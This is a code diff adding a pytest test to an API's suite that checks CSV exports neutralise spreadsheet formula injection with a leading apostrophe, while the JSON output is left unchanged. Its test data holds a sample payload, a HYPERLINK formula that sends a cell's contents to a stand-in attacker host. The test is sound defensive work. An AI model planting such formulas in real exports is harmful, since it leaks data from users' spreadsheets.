@@ -2,8 +2,17 @@
 
 import csv
 import io
+import shutil
+from pathlib import Path
 
 import httpx
+import yaml
+
+from api.database import create_db_engine
+from api.loader import load, seed_files
+from api.schema_version import upgrade
+from api.settings import PROJECT_ROOT, Settings
+from tests.conftest import LiveServer
 
 
 def test_json_is_indented_for_reading_in_a_terminal(client: httpx.Client) -> None:
@@ -164,3 +173,30 @@ def test_openapi_operation_ids_are_the_route_names(client: httpx.Client) -> None
     paths = client.get("/openapi.json").json()["paths"]
     assert paths["/statements"]["get"]["operationId"] == "list_statements"
     assert paths["/actors/{slug}"]["get"]["operationId"] == "get_actor"
+
+
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(
+    database_url: str, tmp_path: Path
+) -> None:
+    """OWASP's CSV injection: a value starting with =, +, -, @, tab or return gets a leading
+    apostrophe in CSV (the JSON answer keeps the value as it is)."""
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
+    folder = tmp_path / "seed"
+    shutil.copytree(PROJECT_ROOT / "tests" / "data", folder)
+    path = folder / "portville-harbor.yaml"
+    document = yaml.safe_load(path.read_text(encoding="utf-8"))
+    document["statements"][1]["text"] = formula  # a reported claim: its text is free
+    path.write_text(yaml.safe_dump(document, allow_unicode=True, sort_keys=False), "utf-8")
+    engine = create_db_engine(database_url)
+    upgrade(engine)
+    load(engine, seed_files(folder))
+    engine.dispose()
+    with (
+        LiveServer(Settings(database_url=database_url)) as server,
+        httpx.Client(base_url=server.url) as client,
+    ):
+        body = client.get("/statements.csv").content.decode("utf-8-sig")
+        texts = {row["slug"]: row["text"] for row in csv.DictReader(io.StringIO(body))}
+        as_json = client.get("/statements/okafor-wants-toll-halved").json()["text"]
+    assert texts["okafor-wants-toll-halved"] == "'" + formula
+    assert as_json == formula
